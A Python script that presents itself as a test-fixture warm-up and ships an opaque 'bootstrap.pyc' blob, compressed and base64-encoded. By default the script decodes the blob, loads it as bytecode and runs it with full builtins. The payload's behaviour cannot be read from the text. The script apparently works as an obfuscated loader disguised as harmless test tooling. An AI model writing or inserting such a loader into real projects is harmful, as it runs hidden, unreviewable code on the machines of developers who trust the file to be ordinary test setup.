#!/usr/bin/env python3
"""Warm up the fixture registry before the integration suite starts.

Fixtures are shipped inline (zlib + base64) so the runner is a single file.
The 'bootstrap' entry is a precompiled helper that registers hooks.
"""
import argparse
import base64
import hashlib
import logging
import marshal
import sys
import types
import zlib
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("fixtures")

# name -> (zlib+base64 payload, sha256 of the decoded bytes)
_EMBEDDED = {
    "greeting.txt": (
        "eNrLSM3JyVdIy6woKS1KVSjPL8pJ4QIAUjsHjg==",
        "93345d858a99a6da8fc6c487e5c9a577232f7fa00b5a387242a03534ed2288c8",
    ),
    "bootstrap.pyc": (
        "eNqFTk1LAlEUve/5/IwwaRXqIqHARX6VUCBCIiUu2rQbitCZZ41NMzKjEK5mIfSBULtcthLCXb9k"
        "hFkMb9vKneDOVTPWSETQ5bxz3nm8e+/5gB/l/dbZu00vIICAJOC+FHFooZjDGChqetwmAQ8RwAi5"
        "niOCpwznW5zX/gdNn/tOyasf/qihfUZLR71DbHvsegT9bXsObgaW+4jgvfy1E9nJTiHpmzjmJIm7"
        "q9mD/VQ+m8pmMqncrngWAUh6VGfqxGmaOLeuP10X5bR21cU7YjLIsKIxn6bw17TNQlqn3lIVnmoa"
        "i/AqrbXpBa/IMuXboiIzpDHcEBgROq0c8zVEicoKI3xNkt5g5mSYBwsN8bbdUWlxHijcKEJHokU1"
        "sogKoN3ZNPUghCyIG//BIjH9yCQxI743JnmT5HVkhdangFBsQXrJIit6qXd8f/hUeaw8VPvVAR6T"
        "qEmixgIWhPVQL/y8MSgba5tjSJiQMFyoYTvLJ5TLdk8=",
        "51d2f528b24c1b25cc3fd14635ad100237fb4ee7f034827e331953c2d74c42c8",
    ),
}


@dataclass
class Fixture:
    name: str
    blob: str
    digest: str

    def decode(self) -> bytes:
        raw = zlib.decompress(base64.b64decode(self.blob))
        if hashlib.sha256(raw).hexdigest() != self.digest:
            raise ValueError(f"{self.name}: checksum mismatch")
        return raw


def iter_fixtures():
    for name, (blob, digest) in sorted(_EMBEDDED.items()):
        yield Fixture(name, blob, digest)


def run_hook(fx: Fixture) -> None:
    code = marshal.loads(fx.decode())
    hook = types.FunctionType(code, {"__name__": "fixture_hook",
                                     "__builtins__": __builtins__})
    log.debug("running hook %s", fx.name)
    hook()


def write_fixture(fx: Fixture, outdir: Path) -> None:
    target = outdir / fx.name
    target.write_bytes(fx.decode())
    log.info("wrote %s", target)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default="fixtures")
    ap.add_argument("--skip-hooks", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    outdir = Path.cwd() / args.out
    outdir.mkdir(parents=True, exist_ok=True)
    for fx in iter_fixtures():
        try:
            if fx.name.endswith(".pyc"):
                if not args.skip_hooks:
                    run_hook(fx)
                continue
            write_fixture(fx, outdir)
        except (ValueError, zlib.error) as exc:
            log.error("%s", exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
